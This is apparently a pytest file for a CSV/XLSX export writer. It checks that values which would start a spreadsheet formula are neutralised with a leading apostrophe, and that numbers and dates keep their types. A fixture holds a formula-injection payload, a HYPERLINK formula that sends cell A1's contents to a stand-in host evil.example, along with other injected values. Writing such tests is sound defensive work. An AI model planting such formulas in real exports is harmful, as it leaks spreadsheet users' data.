"""The one export writer (hbmm.exports): header and HXL rows, cell values, and text that would
start a spreadsheet formula written so that Excel or LibreOffice shows it as text."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from hbmm.exports import csv_lines, export_response, xlsx_bytes

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
HEADER = ["name", "note", "count", "balance", "day", "counts"]
HXL = ["#loc+name", "#description", "#population", "#value", "#date", "#meta"]
ROWS = [
    [LINK, "+33 6 12", -5, Decimal("-1.5"), dt.date(2020, 5, 15), {"BFA": 3}],
    ["@SUM(A1)", "-2+3", 0, None, None, []],
    ["\tcmd", "\rcmd", 7, Decimal("2.25"), dt.date(2020, 1, 1), {}],
    ["Kourémalé", "plain text, with a comma", 12, 3, None, ["=1+1"]],
]


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_neutralises_formulas_but_not_numbers():
    text = "".join(csv_lines(HEADER, ROWS, hxl=HXL))
    assert text.startswith("\ufeff")
    rows = _csv(text)
    assert rows[0] == HEADER and rows[1] == HXL
    assert rows[2] == ["'" + LINK, "'+33 6 12", "-5", "-1.5", "2020-05-15", '{"BFA": 3}']
    assert rows[3] == ["'@SUM(A1)", "'-2+3", "0", "", "", "[]"]
    assert rows[4][:2] == ["'\tcmd", "'\rcmd"]
    assert rows[5] == ["Kourémalé", "plain text, with a comma", "12", "3", "", '["=1+1"]']


def test_xlsx_neutralises_formulas_but_not_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(HEADER, ROWS, hxl=HXL, title="t"))).active
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[1]] == HXL
    link, phone, negative, decimal, day, _counts = cells[2]
    assert link.value == "'" + LINK and link.data_type == "s"  # text, not a formula
    assert phone.value == "'+33 6 12"
    assert negative.value == -5 and negative.data_type == "n"  # a number stays a number
    assert decimal.value == -1.5 and decimal.data_type == "n"
    assert day.value == dt.datetime(2020, 5, 15)  # a date, shown as a date
    assert [c.value for c in cells[3][:2]] == ["'@SUM(A1)", "'-2+3"]
    assert not any(c.data_type == "f" for row in cells for c in row)


def test_an_aware_time_is_written_in_utc_to_xlsx():
    moment = dt.datetime(2020, 5, 15, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["at"], [[moment]]))).active
    assert list(sheet.values)[1][0] == dt.datetime(2020, 5, 15, 8, 30)


def test_response_names_the_file_and_refuses_other_formats():
    response = export_response("csv", filename="hbmm-x", header=["a"], rows=[[1]])
    assert response["Content-Disposition"] == 'attachment; filename="hbmm-x.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(response.streaming_content).decode() == "\ufeffa\r\n1\r\n"
    xlsx = export_response("xlsx", filename="hbmm-x", header=["a"], rows=[[1]])
    assert xlsx["Content-Disposition"] == 'attachment; filename="hbmm-x.xlsx"'
    with pytest.raises(ValueError, match="format: 'ods' is not one of csv, xlsx"):
        export_response("ods", filename="x", header=["a"], rows=[])
